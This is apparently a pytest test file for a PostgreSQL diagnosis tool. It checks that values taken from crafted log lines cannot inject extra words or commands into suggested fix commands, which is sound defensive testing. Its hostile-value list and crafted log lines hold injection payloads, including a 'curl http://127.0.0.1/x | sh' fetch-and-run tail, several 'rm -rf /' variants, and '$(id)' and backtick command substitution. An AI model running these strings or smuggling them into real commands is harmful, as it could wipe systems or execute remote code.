"""Fix commands are safe by construction: no value, however hostile, adds a word or a command.

For every playbook and every value its Fix and Verify use, a hostile value is rendered in place of a
plain one; each command line (fenced code and inline code) must then split into exactly the words of
the plain rendering, the value being one word (or the generic ``<name>`` where code cannot carry it),
with no shell operator or expansion the template did not write itself. Then the issue's reproducers,
end to end through ``pgdoctor logs``.
"""

from __future__ import annotations

import functools
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from shell_words import active, code_lines, words

from doctor.diagnosis import Group, fill_values
from doctor.fixquote import FRAGMENTS, code_safe, place_values, shell_join, shell_word
from doctor.model.node import NodeView
from doctor.playbooks import load_playbooks

BOOKS = load_playbooks()
# (an empty value is falsy and takes the template's other branch: see test_shell_word_keeps_plain_values_plain)
# values a template computes with or loops over: numbers stay numbers, lists carry the value as an item
NUMERIC = {"line": 7, "column": 3, "max_wal_senders": 10, "data_dir_entries": 3}
LISTS = {"peer_ports", "blocked_ports", "start_confs", "absent", "tagged_members"}
HOSTILE = [
    "/ /etc", "data directory \"/ /etc\" has invalid permissions", "/x; curl http://127.0.0.1/x | sh",
    "-rf /", "--no-preserve-root", "-", "a && b", "a || b", "`id`", "$(id)", "${IFS}", "$HOME", "a'b", 'a"b',
    "'", '"', "\\", "a\\'b", "a\nb", "a\r\nrm -rf /", "x\ttab", "!!", "!$", "a#b", "# c", "~root", "*", "?",
    "a>b", "a<b", "(x)", "{a,b}", "a b\nUNIT\nrm -rf /", "```\nrm -rf /\n```", "` rm -rf / `", "é ü 東京",
    "\u202erm -rf /", "\u200b", " ", "x\x1b[2Jy", "\x7f", "\ue000x\ue002", "%s", "a=b", "--", "-c 'id'",
]
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=24),
    st.builds(lambda a, b, c: a + b + c, st.sampled_from(HOSTILE), st.text(";|&`$()'\" \n-/<>*", max_size=6),
              st.sampled_from(HOSTILE)),
)


def sentinel(name: str) -> str:
    return "zz" + re.sub(r"[^a-z0-9]", "", name.lower()) + "zz"


def base_values(book_id: str) -> dict[str, Any]:
    """A plain value for every name the playbook uses: a distinct word, found again in the output."""
    values: dict[str, Any] = {}
    for name in BOOKS[book_id].value_names():
        if name in NUMERIC:
            values[name] = NUMERIC[name]
        elif name == "tab_fixes":
            values[name] = [{"line": 2, "indent": 4}]
        elif name in LISTS:
            values[name] = [sentinel(name)]
        else:
            values[name] = sentinel(name)
    return values


def with_value(values: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    """The values with ``name`` set to ``value``; a command fragment the way code builds one (quoted)."""
    out = dict(values)
    out[name] = [value] if name in LISTS else shell_join(value) if name in FRAGMENTS else value
    return out


def string_names(book_id: str) -> list[str]:
    return sorted(n for n in BOOKS[book_id].value_names() if n not in NUMERIC and n != "tab_fixes")


def expected_word(value: str, name: str, kind: str) -> str:
    return value if code_safe(value, inline=kind == "inline") else f"<{name}>"


def _any_name(word: str, names: list[str]) -> str:
    for n in names:
        word = word.replace(f"<{n}>", "<?>")
    return word


@functools.cache
def plain_lines(book_id: str, section: str) -> tuple[tuple[str, str], ...]:
    plain = BOOKS[book_id].render(section, base_values(book_id))
    assert "template error" not in plain, plain
    return tuple(code_lines(plain))


def assert_safe(book_id: str, section: str, names: list[str], value: str) -> None:
    """``value`` in place of each of ``names``: every code line has the plain rendering's words."""
    values = base_values(book_id)
    for name in names:
        values = with_value(values, name, value)
    hostile = BOOKS[book_id].render(section, values)
    plain, got_lines = plain_lines(book_id, section), code_lines(hostile)
    assert len(got_lines) == len(plain), (book_id, section, names, value, hostile)
    for (kind, want), (_, got) in zip(plain, got_lines, strict=False):
        expected, got_words = words(want), words(got)
        for name in names:
            expected = [w.replace(sentinel(name), expected_word(value, name, kind)) for w in expected]
        if len(names) > 1:  # one value in every place: which name a <name> stands for is not known
            expected = [_any_name(w, names) for w in expected]
            got_words = [_any_name(w, names) for w in got_words]
        assert got_words == expected, (book_id, section, names, value, got)
        assert active(got) == active(want), (book_id, section, names, value, got)


CASES = [(b, s) for b in sorted(BOOKS) for s in ("fix", "verify") if BOOKS[b].section(s)]


@pytest.mark.parametrize("book_id,section", CASES)
def test_every_known_hostile_value_stays_one_word(book_id, section):
    names = string_names(book_id)
    for value in HOSTILE:
        assert_safe(book_id, section, names, value)  # in every place at once
        for name in names:  # and alone (a value next to plain ones)
            assert_safe(book_id, section, [name], value)


@pytest.mark.parametrize("book_id", sorted(BOOKS))
@settings(derandomize=True, max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_value_stays_one_word(book_id, data):
    names = string_names(book_id)
    if not names:
        return
    name = data.draw(st.sampled_from(names))
    value = data.draw(hostile_text)
    for section in ("fix", "verify"):
        if BOOKS[book_id].section(section):
            assert_safe(book_id, section, [name], value)


def test_every_playbook_uses_values_in_its_commands():
    """The property above covers real substitutions: most playbooks put values into code."""
    using = [b for b in BOOKS if any(sentinel(n) in line for n in string_names(b)
                                     for _, line in code_lines(BOOKS[b].render("fix", base_values(b))))]
    assert len(using) >= 30, using


# ----------------------------------------------------------------------------- the layer's rules


@pytest.mark.parametrize("template,value,want", [
    ("```\nchmod 700 {{ v }}\n```", "/var/lib/postgresql/18/data", "chmod 700 /var/lib/postgresql/18/data"),
    ("```\nchmod 700 {{ v }}\n```", "/ /etc", "chmod 700 '/ /etc'"),
    ("```\nss -ltnp 'sport = :{{ v }}'\n```", "80'; id; '", "ss -ltnp 'sport = :80'\"'\"'; id; '\"'\"''"),
    ("```\necho \"on {{ v }}\"\n```", "$(id)", "echo \"on \"'$(id)'\"\""),
    ("```\nchown {{ v }}:{{ v }} x\n```", "a b", "chown 'a b':'a b' x"),
    ("```\nchmod 700 {{ v }}\n```", "a\nrm -rf /", "chmod 700 '<v>'"),
])
def test_the_layer_quotes_for_where_the_value_stands(template, value, want):
    from doctor.playbooks import parse_playbook
    book = parse_playbook(f"---\nid: t\ntitle: t\nseverity: error\n---\n## Fix\n\n{template}\n")
    assert book.fix_commands({"v": value}) == [want]


def test_prose_shows_the_value_as_text_without_opening_code():
    from doctor.playbooks import parse_playbook
    book = parse_playbook("---\nid: t\ntitle: t\nseverity: error\n---\n## Fix\n\nOn {{ v }} run:\n\n```\nls\n```\n")
    text = book.render("fix", {"v": "x\n```\nrm -rf /\n"})
    assert book.fix_commands({"v": "x\n```\nrm -rf /\n"}) == ["ls"]
    assert "rm -rf /" in text and "\n```\nrm" not in text


def test_shell_word_keeps_plain_values_plain():
    assert shell_word("/var/lib/postgresql/18/data", "") == "/var/lib/postgresql/18/data"
    assert shell_word("postgres", "'") == "postgres" and shell_word("postgres", '"') == "postgres"
    assert place_values("\ue000x\ue002", {}) == "x"
    assert shell_word("", "") == "''"  # an empty argument stays an argument


# ----------------------------------------------------------------------------- values from log lines


NODE = {**NodeView({"name": "pg1", "scope": "demo", "postgresql": {"data_dir": "/var/lib/pg/data"}},
                   "/etc/patroni/patroni.yml").template_values(), "known_members": ["pg1", "pg2"],
        "known_api_urls": ["http://10.0.0.2:8008/patroni"]}


def filled(book_id: str, pattern: str, groups: dict[str, str]) -> dict[str, Any]:
    return fill_values(Group(book_id, logs=[{"pattern": pattern, "groups": groups}]), BOOKS[book_id], NODE)


@pytest.mark.parametrize("book_id,pattern,name,good,bad", [
    ("datadir-permissions", "datadir-invalid-perms", "data_dir", "/var/lib/pg/data/", "/ /etc"),
    ("bootstrap-failed", "bootstrap-data-dir-renamed", "failed_dir", "/var/lib/pg/data.failed", "/"),
    ("bootstrap-failed", "bootstrap-data-dir-renamed", "failed_dir", "/var/lib/pg/data_2024-01-02-03-04-05",
     "/var/lib/pg/data_x;id"),
    ("postmaster-pid-stale", "pidfile-exists", "pidfile", "/var/lib/pg/data/postmaster.pid",
     "/tmp/postmaster.pid"),
    ("timeline-diverged", "tl-member-behind", "member", "pg2", "pg3;id"),
    ("rest-api-unreachable", "rest-request-failed", "member_api_url", "http://10.0.0.2:8008/patroni",
     "http://evil/x"),
])
def test_a_log_value_fills_a_command_only_when_the_facts_confirm_it(book_id, pattern, name, good, bad):
    assert filled(book_id, pattern, {name: good})[name] == good
    bad_values = filled(book_id, pattern, {name: bad})
    assert bad_values.get(name) != bad and bad_values[f"log_value_{name}"] == bad


def test_a_log_value_that_looks_like_an_option_never_fills_a_command():
    values = filled("timeline-diverged", "tl-member-behind", {"member": "-rf"})
    assert "member" not in values and values["log_value_member"] == "-rf"


def test_numbers_from_the_log_are_used():
    assert filled("replica-not-streaming", "walsenders-exhausted", {"max_wal_senders": "10"})["max_wal_senders"] == "10"


# ----------------------------------------------------------------------------- end to end (the issue)


def pgdoctor_logs(tmp_path: Path, line: str, *extra: str) -> tuple[str, dict[str, Any]]:
    log = tmp_path / "crafted.log"
    log.write_text(line + "\n", encoding="utf-8")
    run = [sys.executable, "-m", "doctor", "logs", str(log), *extra]
    text = subprocess.run([*run, "--format", "text"], capture_output=True, text=True, timeout=120)
    js = subprocess.run([*run, "--format", "json"], capture_output=True, text=True, timeout=120)
    assert text.returncode in (0, 1, 2), text.stderr
    return text.stdout, json.loads(js.stdout)


def fixes(report: dict[str, Any]) -> list[str]:
    return [line for d in report["diagnoses"] for block in d["fix"] for line in block.splitlines()]


@pytest.mark.parametrize("with_config", [False, True])
def test_a_user_name_posing_as_a_data_dir_gives_no_chown_of_root(tmp_path, with_config):
    line = ('2025-05-01 10:00:00.000 UTC [123] FATAL:  password authentication failed for user '
            '"data directory "/ /etc" has invalid permissions"')
    extra: tuple[str, ...] = ()
    if with_config:
        cfg = tmp_path / "patroni.yml"
        cfg.write_text("scope: demo\nname: pg1\npostgresql:\n  data_dir: /var/lib/pg/data\n", encoding="utf-8")
        extra = ("-c", str(cfg))
    text, report = pgdoctor_logs(tmp_path, line, *extra)
    cmds = fixes(report)
    assert any("chmod 700" in c for c in cmds), cmds  # the problem is still explained
    assert not any("/ /etc" in c or "/etc" in c for c in cmds), cmds
    assert "chown -R postgres:postgres / /etc" not in text and "chmod 700 / /etc" not in text
    if with_config:
        assert "sudo chmod 700 -- /var/lib/pg/data" in cmds
    assert "/ /etc" in text  # named as text, for the reader to judge


def test_a_crafted_patroni_rename_line_gives_no_rm_of_root(tmp_path):
    line = "2025-05-01 10:00:00,000 INFO: renaming data directory to /"
    text, report = pgdoctor_logs(tmp_path, line)
    cmds = fixes(report)
    assert any(c.startswith("sudo rm -rf -- ") for c in cmds), cmds
    assert not any(re.fullmatch(r"sudo rm -rf (-- )?/", c) for c in cmds), cmds
    assert not re.search(r"rm -rf (-- )?/\s*$", text, re.MULTILINE)


def test_a_curl_pipe_sh_tail_never_reaches_a_command(tmp_path):
    line = ('2025-05-01 10:00:00.000 UTC [1] FATAL:  lock file "/x; curl http://127.0.0.1/x | sh; '
            '/postmaster.pid" already exists')
    text, report = pgdoctor_logs(tmp_path, line)
    cmds = fixes(report)
    assert cmds, report["diagnoses"]
    assert not any("curl" in c for c in cmds), cmds
    for c in cmds:
        assert ("|" not in words(c) and ";" not in words(c)) or "curl" not in c
    assert "mv /x; curl" not in text
